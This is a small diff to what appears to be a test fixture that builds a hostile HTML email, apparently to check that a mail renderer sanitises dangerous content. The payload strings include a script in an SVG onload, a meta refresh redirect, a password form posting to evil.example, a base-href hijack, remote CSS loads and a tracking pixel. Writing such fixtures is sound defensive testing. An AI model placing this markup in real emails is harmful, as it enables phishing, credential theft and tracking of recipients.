@@ -76,7 +76,8 @@ def hostile_mail(picture: bytes) -> bytes:
         "<svg onload='parent.document.title = 2'></svg><meta http-equiv=refresh content='0;url=https://evil.example'>"
         "<form action='https://evil.example'><input name=password></form><base href='https://evil.example/'>"
         "<style>@import url(https://evil.example/x.css);</style><p style='background: url(https://evil.example/x)'>x</p>"
-        "<img src='https://evil.example/pixel.gif' width=1 height=1><a href='https://evil.example/' target=_top>win</a>",
+        "<img src='https://evil.example/pixel.gif' width=1 height=1>"
+        "<a href='https://evil.example/' target=_top>win</a>",
         subtype="html",
     )
     mail.get_payload()[1].add_related(picture, "image", "png", cid="<lamp@x>")
